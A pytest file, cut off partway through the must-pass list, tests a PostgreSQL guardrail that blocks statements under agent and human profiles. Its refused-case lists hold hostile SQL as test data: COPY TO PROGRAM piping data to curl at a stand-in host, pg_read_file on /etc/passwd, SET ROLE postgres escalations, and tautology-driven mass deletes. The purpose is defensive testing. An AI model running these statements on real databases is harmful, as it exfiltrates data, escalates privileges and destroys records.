"""The guardrails on PostgreSQL statements: every rule kind, many spellings, must-pass traffic.

No database: the catalog is a fixture and the profiles are the shipped example file's plus a
few small ones. Every case asserts the rule id of the refusal (or that nothing is refused), so
a refusal made by the wrong rule fails as loudly as a statement that slips through.
"""

from __future__ import annotations

import tomllib
from collections.abc import Sequence
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pglast.parser import scan

from policies.catalog import Catalog, RelationInfo, RoutineInfo
from policies.facts import Name
from policies.guardrails import Context, Guardrails, Pattern, Profile, Refusal, Rule, parse_profiles
from policies.statements import analyze

ROOT = Path(__file__).resolve().parent.parent
PROFILES = parse_profiles(tomllib.loads((ROOT / "examples" / "policy.toml").read_text()))


def _rel(schema: str, name: str, kind: str = "r", *bases: Name) -> RelationInfo:
    return RelationInfo(Name(schema, name), kind, tuple(bases))


def _fn(schema: str, name: str, volatility: str, kind: str = "f", oid: int = 0) -> RoutineInfo:
    return RoutineInfo(Name(schema, name), oid, volatility, kind)


RELATIONS = [
    _rel("public", "customers"), _rel("public", "orders"), _rel("public", "payments"),
    _rel("audit", "events"),
    _rel("public", "v_payments", "v", Name("public", "payments")),
    _rel("public", "v_v_payments", "v", Name("public", "v_payments")),
    _rel("public", "v_orders", "v", Name("public", "orders")),
    *(_rel("pg_catalog", t) for t in (
        "pg_class", "pg_namespace", "pg_am", "pg_attribute", "pg_attrdef", "pg_collation",
        "pg_type", "pg_index", "pg_constraint", "pg_policy", "pg_roles", "pg_statistic_ext",
        "pg_publication", "pg_publication_namespace", "pg_publication_rel", "pg_inherits",
        "pg_proc", "pg_database", "pg_auth_members")),
]
ROUTINES = [
    _fn("public", "lookup", "s", oid=1001), _fn("public", "bump", "v", oid=1002),
    _fn("public", "do_things", "v", "p", oid=1003),
    _fn("pg_catalog", "now", "s"), _fn("pg_catalog", "random", "v"),
    _fn("pg_catalog", "pg_read_file", "v"), _fn("pg_catalog", "set_config", "v"),
    _fn("pg_catalog", "count", "i", "a"), _fn("pg_catalog", "lower", "i"),
    _fn("pg_catalog", "pg_terminate_backend", "v"), _fn("pg_catalog", "nextval", "v"),
    _fn("pg_catalog", "lo_import", "v"),
    # What psql's \d queries and drivers call; their volatility as PostgreSQL 15 declares it.
    *(_fn("pg_catalog", n, "s") for n in (
        "version", "current_setting", "pg_get_userbyid", "pg_table_is_visible", "format_type",
        "pg_get_expr", "pg_get_indexdef", "pg_get_constraintdef", "array_to_string",
        "pg_get_statisticsobjdef_columns", "pg_relation_is_publishable",
        "pg_get_function_result", "pg_get_function_arguments", "pg_function_is_visible",
        "pg_encoding_to_char", "generate_series")),
    _fn("pg_catalog", "array_upper", "i"),
    _fn("pg_catalog", "string_agg", "i", "a"), _fn("pg_catalog", "max", "i", "a"),
]
CATALOG = Catalog.build(RELATIONS, ROUTINES)

CUSTOM = parse_profiles(tomllib.loads("""
[profiles.ddl-create]
[[profiles.ddl-create.rule]]
id = "ddl"
kind = "ddl"
allow_create = ["table", "view"]
allow_maintenance = true

[profiles.lists]
[[profiles.lists.rule]]
id = "only-shop"
kind = "tables"
allow = ["public.orders", "public.customers", "pg_catalog.*"]
[[profiles.lists.rule]]
id = "no-audit"
kind = "schemas"
deny = ["audit"]
[[profiles.lists.rule]]
id = "fn-deny"
kind = "functions"
deny = ["public.bump", "lower"]

[profiles.deny-payments]
[[profiles.deny-payments.rule]]
id = "no-payments"
kind = "tables"
deny = ["public.payments"]

[profiles.public-only]
[[profiles.public-only.rule]]
id = "public-only"
kind = "schemas"
allow = ["public"]

[profiles.code-allow]
[[profiles.code-allow.rule]]
id = "code"
kind = "code"
allow = ["public.bump"]

[profiles.strict-multi]
[[profiles.strict-multi.rule]]
id = "one"
kind = "multi_statement"
refuse_all = true
[[profiles.strict-multi.rule]]
id = "ddl"
kind = "ddl"
"""))
ALL = {**PROFILES, **CUSTOM}


def check(sql: str, profile: str = "agent-rw", path: Sequence[str] = ("public",),
          catalog: Catalog | None = CATALOG) -> Refusal | None:
    return Guardrails(ALL[profile]).check(analyze(sql), Context(catalog, path, "alice"))


def rule_of(sql: str, profile: str = "agent-rw", path: Sequence[str] = ("public",),
            catalog: Catalog | None = CATALOG) -> str | None:
    refusal = check(sql, profile, path, catalog)
    if refusal is not None:
        assert refusal.message.startswith(f"wiregate: blocked by rule {refusal.rule}: ")
    return None if refusal is None else refusal.rule


# -- refused ---------------------------------------------------------------------------------

DDL = [
    "DROP TABLE customers",
    "drop table public.customers",
    "DrOp TaBlE IF EXISTS customers CASCADE",
    'DROP TABLE "customers"',
    'DROP TABLE public."orders", customers',
    "DROP /* harmless? */ TABLE customers",
    "/* comment first */ DROP TABLE customers",
    "-- a line comment\nDROP TABLE customers",
    "DROP /* outer /* nested */ still comment */ TABLE customers",
    "DROP\n\tTABLE\r\n  customers",
    'DROP TABLE U&"\\0063ustomers"',
    "DROP VIEW v_payments",
    "DROP MATERIALIZED VIEW IF EXISTS mv",
    "DROP SCHEMA audit CASCADE",
    "DROP FUNCTION bump()",
    "DROP PROCEDURE do_things",
    "DROP INDEX orders_pkey",
    "DROP DATABASE test",
    "DROP SEQUENCE s",
    "DROP TYPE mood",
    "TRUNCATE orders",
    "truncate table public.orders, customers RESTART IDENTITY",
    "TRUNCATE ONLY orders",
    "ALTER TABLE orders ADD COLUMN note text",
    "alter table orders drop column note",
    "ALTER TABLE orders RENAME TO orders_old",
    "ALTER TABLE orders SET SCHEMA audit",
    "ALTER VIEW v_payments RENAME TO v",
    "ALTER SCHEMA audit RENAME TO old_audit",
    "ALTER FUNCTION lookup() RENAME TO f",
    "ALTER FUNCTION bump() SECURITY DEFINER",
    "ALTER SEQUENCE s RESTART",
    "ALTER INDEX orders_pkey RENAME TO k",
    "ALTER SYSTEM SET work_mem = '1GB'",
    "ALTER SYSTEM RESET ALL",
    "ALTER DATABASE test SET search_path = audit",
    "ALTER DATABASE test RENAME TO prod",
    "COMMENT ON TABLE orders IS 'x'",
    "CREATE OR REPLACE VIEW v_payments AS SELECT 1",
    "create or replace view public.v_payments as select * from payments",
    'CREATE OR REPLACE VIEW "v_payments" AS SELECT 1',
    "CREATE TABLE t (id int)",
    "CREATE TEMP TABLE t (id int)",
    "CREATE UNLOGGED TABLE IF NOT EXISTS t (id int)",
    "CREATE TABLE t AS SELECT * FROM orders",
    "SELECT * INTO t FROM orders",
    "CREATE VIEW v AS SELECT 1",
    "CREATE OR REPLACE VIEW brand_new AS SELECT 1",
    "CREATE MATERIALIZED VIEW mv AS SELECT 1",
    "CREATE SEQUENCE s",
    "CREATE SCHEMA s",
    "CREATE TYPE mood AS ENUM ('a')",
    "CREATE DOMAIN d AS int",
    "CREATE DATABASE other",
    "VACUUM orders",
    "VACUUM FULL",
    "ANALYZE orders",
    "CLUSTER orders",
    "REINDEX TABLE orders",
    "CHECKPOINT",
    "REFRESH MATERIALIZED VIEW mv",
]

UNBOUNDED = [
    "DELETE FROM orders",
    "delete from ORDERS",
    "UPDATE orders SET status = 'x'",
    "DELETE FROM orders WHERE 1=1",
    "DELETE FROM orders WHERE 1 = 1",
    "DELETE FROM orders WHERE true",
    "DELETE FROM orders WHERE TRUE",
    "DELETE FROM orders WHERE NOT false",
    "DELETE FROM orders WHERE NOT (1 = 2)",
    "DELETE FROM orders WHERE 'a'='a'",
    "DELETE FROM orders WHERE $$a$$ = 'a'",
    "DELETE FROM orders WHERE E'\\x61' = 'a'",
    "DELETE FROM orders WHERE id = id",
    "DELETE FROM orders WHERE orders.id = orders.id",
    "DELETE FROM orders o WHERE o.id = o.id",
    'DELETE FROM orders WHERE "id" = id',
    "DELETE FROM orders WHERE id IS NOT DISTINCT FROM id",
    "DELETE FROM orders WHERE id IN (id, 3)",
    "DELETE FROM orders WHERE id IS NULL OR id IS NOT NULL",
    "DELETE FROM orders WHERE coalesce(id, 0) = coalesce(id, 0)",
    "DELETE FROM orders WHERE id = 5 OR 1=1",
    "DELETE FROM orders WHERE id = 5 OR true",
    "UPDATE orders SET status = 'x' WHERE status = 'y' OR 'a' = 'a'",
    "DELETE FROM orders WHERE (SELECT true)",
    "DELETE FROM orders WHERE EXISTS (SELECT 1)",
    "DELETE FROM orders WHERE 't'::boolean",
    "DELETE FROM orders WHERE 'yes'::bool",
    "DELETE FROM orders WHERE CAST(1 AS boolean)",
    "DELETE FROM orders WHERE boolean 'true'",
    "DELETE FROM orders WHERE 1 IN (1, 2)",
    "DELETE FROM orders WHERE 2 BETWEEN 1 AND 3",
    "DELETE FROM orders WHERE true IS TRUE",
    "DELETE FROM orders WHERE ROW(1) = ROW(1)",
    "DELETE FROM orders WHERE 1 = 2",            # constant: does not depend on the row
    "DELETE FROM orders WHERE $1",
    "UPDATE orders SET status = $2 WHERE $1",
    "DELETE FROM orders WHERE $1 = $1",
    "DELETE FROM orders WHERE now() IS NOT NULL",
    "DELETE FROM orders WHERE current_user = 'alice'",
    "DELETE FROM orders WHERE id = 1 OR $1",       # $1 = true touches every row
    "DELETE FROM orders WHERE id = 1 OR now() IS NOT NULL",
    "DELETE FROM orders WHERE NOT (id <> 1 AND $1)",
    "UPDATE orders SET a = 1 WHERE id = 1 OR (SELECT true)",
    "WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d",
    "WITH u AS (UPDATE orders SET a = 1 RETURNING id) SELECT count(*) FROM u",
    "WITH d AS (DELETE FROM orders WHERE 1=1 RETURNING *) INSERT INTO customers SELECT 1 FROM d",
    "COPY (DELETE FROM orders RETURNING *) TO STDOUT",
    "DELETE FROM orders USING customers WHERE customers.id = 3",
    "DELETE FROM orders USING customers c WHERE c.id = 3",
    "UPDATE orders SET a = 1 FROM customers WHERE customers.id = 3",
    "UPDATE orders SET a = c.a FROM customers c WHERE c.id = $1",
    "DELETE FROM orders WHERE EXISTS (SELECT 1 FROM customers c WHERE c.id = 3)",
    # the subquery's own orders shadows the target: no correlation
    "DELETE FROM orders WHERE EXISTS (SELECT 1 FROM orders WHERE orders.id = 1)",
    "DELETE FROM orders o WHERE EXISTS (SELECT 1 FROM orders o WHERE o.id = 1)",
    "UPDATE v_orders SET a = 1",
    "DELETE FROM v_orders WHERE 1=1",
    "EXPLAIN ANALYZE DELETE FROM orders",
    "explain analyze update orders set a = 1",
    "EXPLAIN (ANALYZE) DELETE FROM orders",
    "EXPLAIN (ANALYZE true, COSTS off) DELETE FROM orders",
    "EXPLAIN (ANALYSE) DELETE FROM orders",
    "EXPLAIN (ANALYZE 'on') DELETE FROM orders",
    "EXPLAIN (ANALYZE false, ANALYZE true) DELETE FROM orders",   # the last option wins
    "PREPARE p AS DELETE FROM orders",
    "MERGE INTO orders o USING customers c ON true WHEN MATCHED THEN DELETE",
    "MERGE INTO orders o USING customers c ON 1 = 1 WHEN MATCHED THEN UPDATE SET a = 1",
    "MERGE INTO orders o USING customers c ON c.id = 1 WHEN MATCHED THEN DELETE",
]

PROTECTED = [
    "INSERT INTO payments VALUES (1)",
    "insert into PUBLIC.PAYMENTS values (1)",
    'INSERT INTO "payments" VALUES (1)',
    'INSERT INTO public."payments" VALUES (1)',
    'INSERT INTO U&"\\0070ayments" VALUES (1)',
    'INSERT INTO U&"!0070ayments" UESCAPE \'!\' VALUES (1)',
    "INSERT INTO public./* x */payments VALUES (1)",
    "INSERT INTO payments (id) SELECT id FROM orders",
    "INSERT INTO payments DEFAULT VALUES",
    "INSERT INTO payments VALUES ($1, $2)",
    "UPDATE payments SET amount = 0 WHERE id = 1",
    "UPDATE ONLY payments SET amount = 0 WHERE id = $1",
    "DELETE FROM payments WHERE id = 1",
    "DELETE FROM payments p WHERE p.id = $1",
    "MERGE INTO payments p USING orders o ON p.id = o.id WHEN MATCHED THEN UPDATE SET a = 1",
    "INSERT INTO payments VALUES (1) ON CONFLICT (id) DO UPDATE SET a = 1",
    "INSERT INTO payments VALUES (1) ON CONFLICT DO NOTHING",
    "COPY payments FROM STDIN",
    "copy public.payments (id, amount) from stdin with (format csv)",
    "WITH x AS (INSERT INTO payments VALUES (1) RETURNING *) SELECT * FROM x",
    "WITH x AS (DELETE FROM payments WHERE id = 1 RETURNING *) SELECT * FROM x",
    "UPDATE v_payments SET a = 1 WHERE id = 1",
    "UPDATE v_v_payments SET a = 1 WHERE id = 1",
    "INSERT INTO v_payments VALUES (1)",
    "EXPLAIN ANALYZE INSERT INTO payments VALUES (1)",
    "PREPARE p (int) AS DELETE FROM payments WHERE id = $1",
    "INSERT INTO audit.events VALUES (1)",
    'INSERT INTO "audit"."events" VALUES (1)',
    "DELETE FROM audit.events WHERE id = 1",
    "UPDATE AUDIT.EVENTS SET a = 1 WHERE id = 1",
    # fail closed: names the catalog does not know
    "INSERT INTO nosuch VALUES (1)",
    "INSERT INTO public.nosuch VALUES (1)",
    'INSERT INTO "Payments" VALUES (1)',
    "UPDATE audit.nosuch SET a = 1 WHERE id = 1",
]

FILES = [
    "COPY orders TO '/tmp/orders.csv'",
    "copy orders from '/tmp/orders.csv'",
    "COPY orders TO PROGRAM 'curl -d @- http://x'",
    "COPY orders FROM PROGRAM 'id'",
    "COPY (SELECT * FROM orders) TO '/tmp/x'",
    "COPY orders TO $$/tmp/x$$",
    "SELECT pg_read_file('/etc/passwd')",
    "SELECT PG_READ_FILE('/etc/passwd')",
    "SELECT pg_catalog.pg_read_file('/etc/passwd')",
    'SELECT "pg_read_file"(E\'/etc/\\x70asswd\')',
    "SELECT pg_read_binary_file('/etc/passwd')",
    "SELECT * FROM pg_ls_dir('.')",
    "SELECT lo_import('/etc/passwd')",
    "SELECT lo_export(1, '/tmp/x')",
    "SELECT dblink_exec('host=x', 'DROP TABLE t')",
    "SELECT * FROM dblink('host=x', 'select 1') AS t(a int)",
    "SELECT id FROM orders WHERE note = pg_read_file('/etc/hostname')",
    "LOAD 'plpython3u'",
    "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw",
]

PRIVILEGES = [
    "GRANT SELECT ON orders TO bob",
    "grant all privileges on all tables in schema public to public",
    "REVOKE ALL ON orders FROM bob",
    "GRANT admin TO bob",
    "REVOKE admin FROM bob",
    "CREATE ROLE bob",
    "CREATE USER bob WITH PASSWORD 'x'",
    "ALTER ROLE bob SUPERUSER",
    "ALTER USER bob WITH PASSWORD 'x'",
    "ALTER ROLE bob SET search_path = audit",
    "DROP ROLE bob",
    "DROP USER IF EXISTS bob",
    "SET ROLE postgres",
    "set role 'postgres'",
    "SET LOCAL ROLE postgres",
    "SET SESSION ROLE postgres",
    'SET "role" = \'postgres\'',
    "SET role TO DEFAULT",
    "RESET ROLE",
    "SET SESSION AUTHORIZATION postgres",
    "SET SESSION AUTHORIZATION DEFAULT",
    "RESET SESSION AUTHORIZATION",
    "SELECT set_config('role', 'postgres', false)",
    "SELECT set_config('role', 'postgres', true)",
    "SELECT set_config('ROLE', 'postgres', false)",
    "SELECT pg_catalog.set_config('role', 'postgres', false)",
    "SELECT set_config(E'rol\\x65', 'postgres', false)",
    "SELECT set_config($$role$$, 'postgres', false)",
    "SELECT set_config('role'::text, 'postgres', false)",
    "SELECT set_config('session_authorization', 'postgres', false)",
    "SELECT set_config($1, 'postgres', false)",              # name unknown until run time
    "SELECT set_config('ro' || 'le', 'postgres', false)",
    "SELECT id FROM orders WHERE set_config('role', 'postgres', false) IS NOT NULL",
    "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob",
    "ALTER TABLE orders OWNER TO bob",
    "ALTER TABLE payments DISABLE ROW LEVEL SECURITY",
    "REASSIGN OWNED BY alice TO bob",
    "DROP OWNED BY bob",
    "CREATE POLICY p ON orders USING (true)",
]

CODE = [
    "DO $$ BEGIN PERFORM 1; END $$",
    "do $body$ begin delete from payments; end $body$",
    "DO LANGUAGE plpgsql 'BEGIN END'",
    "DO E'BEGIN END'",
    "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'",
    "CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql AS $$select 1$$",
    "CREATE PROCEDURE p() LANGUAGE sql AS 'select 1'",
    "CREATE TRIGGER t BEFORE INSERT ON orders FOR EACH ROW EXECUTE FUNCTION f()",
    "CREATE RULE r AS ON INSERT TO orders DO INSTEAD NOTHING",
    "CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()",
    "CREATE EXTENSION dblink",
    "CREATE AGGREGATE a (int) (sfunc = int4pl, stype = int)",
    "SELECT bump()",
    "select BUMP()",
    'SELECT "bump"()',
    "SELECT public.bump()",
    "SELECT id, bump() FROM orders",
    "SELECT * FROM orders WHERE id = (SELECT bump())",
    "CALL do_things()",
    "call public.do_things()",
    "SELECT * FROM bump()",
]

READ_ONLY = [
    "INSERT INTO orders VALUES (1)",
    "UPDATE orders SET a = 1 WHERE id = 1",
    "DELETE FROM orders WHERE id = $1",
    "MERGE INTO orders o USING customers c ON o.id = c.id WHEN MATCHED THEN DELETE",
    "WITH x AS (DELETE FROM orders WHERE id = 1 RETURNING 1) SELECT * FROM x",
    "COPY orders FROM STDIN",
    "EXPLAIN ANALYZE DELETE FROM orders WHERE id = 1",
    "PREPARE p AS INSERT INTO orders VALUES (1)",
    "CREATE TABLE t (id int)",
    "SELECT 1 INTO t",
    "DROP TABLE orders",
    "TRUNCATE orders",
    "VACUUM",
    "SET default_transaction_read_only = off",
    "set DEFAULT_TRANSACTION_READ_ONLY to 'off'",
    "SET default_transaction_read_only TO DEFAULT",
    "RESET default_transaction_read_only",
    "SET transaction_read_only = off",
    "SET LOCAL transaction_read_only = 'off'",
    "SELECT set_config('default_transaction_read_only', 'off', false)",
    "SELECT set_config('transaction_read_only', 'off', true)",
    "BEGIN READ WRITE",
    "begin transaction read write",
    "START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE",
    "SET TRANSACTION READ WRITE",
    "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
    "SET statement_timeout = 0",
    "RESET statement_timeout",
]

FUNCTIONS = [
    ("agent-rw", "SELECT pg_terminate_backend(1)", "no-admin-functions"),
    ("agent-rw", "SELECT pg_catalog.pg_terminate_backend(1)", "no-admin-functions"),
    ("agent-rw", 'SELECT "pg_terminate_backend"(1)', "no-admin-functions"),
    ("agent-rw", "SELECT PG_TERMINATE_BACKEND(pid) FROM pg_stat_activity", "no-admin-functions"),
    ("lists", "SELECT bump()", "fn-deny"),             # unqualified, resolved through the path
    ("lists", "SELECT public.bump()", "fn-deny"),
    ("lists", "SELECT lower('A')", "fn-deny"),
    ("lists", "SELECT pg_catalog.lower('A')", "fn-deny"),
    ("lists", "SELECT id FROM orders WHERE LOWER(name) = 'x'", "fn-deny"),
    ("lists", "SELECT * FROM payments", "only-shop"),
    ("lists", "SELECT * FROM v_payments", "only-shop"),
    ("lists", "SELECT * FROM orders JOIN payments USING (id)", "only-shop"),
    ("lists", "INSERT INTO orders SELECT * FROM payments", "only-shop"),
    ("lists", "SELECT * FROM audit.events", "only-shop"),
    ("lists", "WITH p AS (SELECT * FROM payments) SELECT * FROM p", "only-shop"),
    # a CTE named like the table only hides it inside its own scope
    ("lists", "WITH payments AS (SELECT * FROM payments) SELECT * FROM payments", "only-shop"),
    ("lists", "SELECT * FROM payments WHERE EXISTS (WITH payments AS (SELECT 1) "
              "SELECT 1 FROM payments)", "only-shop"),
    ("deny-payments", "SELECT * FROM payments", "no-payments"),
    ("deny-payments", "SELECT * FROM PUBLIC.Payments", "no-payments"),
    ("deny-payments", "select * from v_v_payments", "no-payments"),
    ("deny-payments", "SELECT count(*) FROM orders o WHERE o.id IN (SELECT id FROM payments)",
     "no-payments"),
    ("public-only", "SELECT * FROM audit.events", "public-only"),
    ("public-only", "SELECT * FROM pg_catalog.pg_class", "public-only"),
]

REFUSED = (
    [("agent-rw", s, "no-ddl") for s in DDL]
    + [("agent-rw", s, "bounded-writes") for s in UNBOUNDED]
    + [("human", s, "bounded-writes") for s in UNBOUNDED[:12]]
    + [("agent-rw", s, "protected-tables") for s in PROTECTED]
    + [("agent-rw", s, "no-files") for s in FILES]
    + [("agent-readonly", s, "no-files") for s in FILES[:6]]
    + [("human", s, "no-files") for s in FILES]
    + [("agent-rw", s, "no-privileges") for s in PRIVILEGES]
    + [("human", s, "no-privileges") for s in PRIVILEGES]
    + [("agent-rw", s, "no-code") for s in CODE]
    + [("agent-readonly", s, "no-code") for s in CODE]
    + [("agent-readonly", s, "read-only") for s in READ_ONLY]
    + FUNCTIONS
)


@pytest.mark.parametrize(("profile", "sql", "rule"), REFUSED)
def test_refused(profile: str, sql: str, rule: str) -> None:
    refusal = check(sql, profile)
    assert refusal is not None, f"{sql!r} was allowed under {profile}"
    assert refusal.rule == rule, refusal.message
    assert refusal.message.startswith(f"wiregate: blocked by rule {rule}: ")


# -- allowed ---------------------------------------------------------------------------------

# Queries psql 15 sends for \dt, \d orders, \df, \dn, \l and \du (captured with psql -E).
PSQL = [
    """SELECT n.nspname as "Schema",
  c.relname as "Name",
  CASE c.relkind WHEN 'r' THEN 'table' WHEN 'v' THEN 'view' WHEN 'm' THEN 'materialized view' \
WHEN 'i' THEN 'index' WHEN 'S' THEN 'sequence' WHEN 't' THEN 'TOAST table' WHEN 'f' THEN \
'foreign table' WHEN 'p' THEN 'partitioned table' WHEN 'I' THEN 'partitioned index' END as "Type",
  pg_catalog.pg_get_userbyid(c.relowner) as "Owner"
FROM pg_catalog.pg_class c
     LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace
     LEFT JOIN pg_catalog.pg_am am ON am.oid = c.relam
WHERE c.relkind IN ('r','p','')
      AND n.nspname <> 'pg_catalog'
      AND n.nspname !~ '^pg_toast'
      AND n.nspname <> 'information_schema'
  AND pg_catalog.pg_table_is_visible(c.oid)
ORDER BY 1,2;""",
    """SELECT c.oid,
  n.nspname,
  c.relname
FROM pg_catalog.pg_class c
     LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace
WHERE c.relname OPERATOR(pg_catalog.~) '^(orders)$' COLLATE pg_catalog.default
  AND pg_catalog.pg_table_is_visible(c.oid)
ORDER BY 2, 3;""",
    """SELECT c.relchecks, c.relkind, c.relhasindex, c.relhasrules, c.relhastriggers, \
c.relrowsecurity, c.relforcerowsecurity, false AS relhasoids, c.relispartition, '', \
c.reltablespace, CASE WHEN c.reloftype = 0 THEN '' ELSE \
c.reloftype::pg_catalog.regtype::pg_catalog.text END, c.relpersistence, c.relreplident, am.amname
FROM pg_catalog.pg_class c
 LEFT JOIN pg_catalog.pg_class tc ON (c.reltoastrelid = tc.oid)
LEFT JOIN pg_catalog.pg_am am ON (c.relam = am.oid)
WHERE c.oid = '16941';""",
    """SELECT a.attname,
  pg_catalog.format_type(a.atttypid, a.atttypmod),
  (SELECT pg_catalog.pg_get_expr(d.adbin, d.adrelid, true)
   FROM pg_catalog.pg_attrdef d
   WHERE d.adrelid = a.attrelid AND d.adnum = a.attnum AND a.atthasdef),
  a.attnotnull,
  (SELECT c.collname FROM pg_catalog.pg_collation c, pg_catalog.pg_type t
   WHERE c.oid = a.attcollation AND t.oid = a.atttypid AND a.attcollation <> t.typcollation) \
AS attcollation,
  a.attidentity,
  a.attgenerated
FROM pg_catalog.pg_attribute a
WHERE a.attrelid = '16941' AND a.attnum > 0 AND NOT a.attisdropped
ORDER BY a.attnum;""",
    """SELECT c2.relname, i.indisprimary, i.indisunique, i.indisclustered, i.indisvalid, \
pg_catalog.pg_get_indexdef(i.indexrelid, 0, true),
  pg_catalog.pg_get_constraintdef(con.oid, true), contype, condeferrable, condeferred, \
i.indisreplident, c2.reltablespace
FROM pg_catalog.pg_class c, pg_catalog.pg_class c2, pg_catalog.pg_index i
  LEFT JOIN pg_catalog.pg_constraint con ON (conrelid = i.indrelid AND conindid = i.indexrelid \
AND contype IN ('p','u','x'))
WHERE c.oid = '16941' AND c.oid = i.indrelid AND i.indexrelid = c2.oid
ORDER BY i.indisprimary DESC, c2.relname;""",
    """SELECT pol.polname, pol.polpermissive,
  CASE WHEN pol.polroles = '{0}' THEN NULL ELSE pg_catalog.array_to_string(array(select rolname \
from pg_catalog.pg_roles where oid = any (pol.polroles) order by 1),',') END,
  pg_catalog.pg_get_expr(pol.polqual, pol.polrelid),
  pg_catalog.pg_get_expr(pol.polwithcheck, pol.polrelid),
  CASE pol.polcmd
    WHEN 'r' THEN 'SELECT'
    WHEN 'a' THEN 'INSERT'
    WHEN 'w' THEN 'UPDATE'
    WHEN 'd' THEN 'DELETE'
    END AS cmd
FROM pg_catalog.pg_policy pol
WHERE pol.polrelid = '16941' ORDER BY 1;""",
    """SELECT pubname
     , NULL
     , NULL
FROM pg_catalog.pg_publication p
     JOIN pg_catalog.pg_publication_namespace pn ON p.oid = pn.pnpubid
     JOIN pg_catalog.pg_class pc ON pc.relnamespace = pn.pnnspid
WHERE pc.oid ='16941' and pg_catalog.pg_relation_is_publishable('16941')
UNION
SELECT pubname
     , pg_get_expr(pr.prqual, c.oid)
     , (CASE WHEN pr.prattrs IS NOT NULL THEN
         (SELECT string_agg(attname, ', ')
           FROM pg_catalog.generate_series(0, pg_catalog.array_upper(pr.prattrs::pg_catalog.int2[],\
 1)) s,
                pg_catalog.pg_attribute
          WHERE attrelid = pr.prrelid AND attnum = prattrs[s])
        ELSE NULL END) FROM pg_catalog.pg_publication p
     JOIN pg_catalog.pg_publication_rel pr ON p.oid = pr.prpubid
     JOIN pg_catalog.pg_class c ON c.oid = pr.prrelid
WHERE pr.prrelid = '16941'
UNION
SELECT pubname
     , NULL
     , NULL
FROM pg_catalog.pg_publication p
WHERE p.puballtables AND pg_catalog.pg_relation_is_publishable('16941')
ORDER BY 1;""",
    """SELECT c.oid::pg_catalog.regclass
FROM pg_catalog.pg_class c, pg_catalog.pg_inherits i
WHERE c.oid = i.inhparent AND i.inhrelid = '16941'
  AND c.relkind != 'p' AND c.relkind != 'I'
ORDER BY inhseqno;""",
    """SELECT n.nspname as "Schema",
  p.proname as "Name",
  pg_catalog.pg_get_function_result(p.oid) as "Result data type",
  pg_catalog.pg_get_function_arguments(p.oid) as "Argument data types",
 CASE p.prokind
  WHEN 'a' THEN 'agg'
  WHEN 'w' THEN 'window'
  WHEN 'p' THEN 'proc'
  ELSE 'func'
 END as "Type"
FROM pg_catalog.pg_proc p
     LEFT JOIN pg_catalog.pg_namespace n ON n.oid = p.pronamespace
WHERE pg_catalog.pg_function_is_visible(p.oid)
      AND n.nspname <> 'pg_catalog'
      AND n.nspname <> 'information_schema'
ORDER BY 1, 2, 4;""",
    """SELECT n.nspname AS "Name",
  pg_catalog.pg_get_userbyid(n.nspowner) AS "Owner"
FROM pg_catalog.pg_namespace n
WHERE n.nspname !~ '^pg_' AND n.nspname <> 'information_schema'
ORDER BY 1;""",
    """SELECT d.datname as "Name",
       pg_catalog.pg_get_userbyid(d.datdba) as "Owner",
       pg_catalog.pg_encoding_to_char(d.encoding) as "Encoding",
       d.datcollate as "Collate",
       d.datctype as "Ctype",
       d.daticulocale as "ICU Locale",
       CASE d.datlocprovider WHEN 'c' THEN 'libc' WHEN 'i' THEN 'icu' END AS "Locale Provider",
       pg_catalog.array_to_string(d.datacl, E'\\n') AS "Access privileges"
FROM pg_catalog.pg_database d
ORDER BY 1;""",
    """SELECT r.rolname, r.rolsuper, r.rolinherit,
  r.rolcreaterole, r.rolcreatedb, r.rolcanlogin,
  r.rolconnlimit, r.rolvaliduntil,
  ARRAY(SELECT b.rolname
        FROM pg_catalog.pg_auth_members m
        JOIN pg_catalog.pg_roles b ON (m.roleid = b.oid)
        WHERE m.member = r.oid) as memberof
, r.rolreplication
, r.rolbypassrls
FROM pg_catalog.pg_roles r
WHERE r.rolname !~ '^pg_'
ORDER BY 1;""",
]

MUST_PASS = [
    # reads
    "SELECT 1",
    "select * from orders",
    "SELECT * FROM payments",
    "SELECT * FROM audit.events ORDER BY id DESC LIMIT 10",
    "SELECT * FROM v_payments",
    "SELECT * FROM v_v_payments WHERE id = $1",
    "SELECT o.id, c.name FROM orders o JOIN customers c ON c.id = o.cid WHERE o.id = 1",
    "SELECT c.name, count(*) FROM customers c LEFT JOIN orders o ON o.cid = c.id GROUP BY 1",
    "WITH r AS (SELECT * FROM orders) SELECT * FROM r",
    "WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t WHERE n < 5) SELECT * FROM t",
    "SELECT * FROM orders WHERE id IN (SELECT id FROM payments)",
    "SELECT count(*), now(), lower('A'), random() FROM orders",
    "SELECT lookup()",
    "SELECT public.lookup()",
    "SELECT nextval('orders_id_seq')",
    "SELECT * FROM orders FOR UPDATE",
    "SELECT * FROM orders WHERE id = 1 FOR UPDATE SKIP LOCKED",
    "SELECT * FROM payments FOR SHARE",
    "TABLE orders",
    "VALUES (1), (2)",
    "EXPLAIN SELECT * FROM orders",
    "EXPLAIN (FORMAT JSON) SELECT * FROM payments",
    "EXPLAIN ANALYZE SELECT * FROM payments",
    "EXPLAIN DELETE FROM orders",                  # plans without executing
    "EXPLAIN INSERT INTO payments VALUES (1)",
    "EXPLAIN (ANALYZE false) DELETE FROM orders",
    "EXPLAIN (ANALYZE off, COSTS) DELETE FROM payments",
    "COPY orders TO STDOUT",
    "COPY (SELECT * FROM payments) TO STDOUT WITH (FORMAT csv)",
    "DECLARE c CURSOR FOR SELECT * FROM payments",
    "FETCH 10 FROM c",
    "CLOSE c",
    "PREPARE q (int) AS SELECT * FROM orders WHERE id = $1",
    "EXECUTE q(1)",
    "DEALLOCATE q",
    "LISTEN jobs",
    "NOTIFY jobs, 'x'",
    # transactions
    "BEGIN", "begin transaction", "START TRANSACTION", "COMMIT", "END", "ROLLBACK",
    "BEGIN ISOLATION LEVEL SERIALIZABLE", "BEGIN READ WRITE", "SAVEPOINT a",
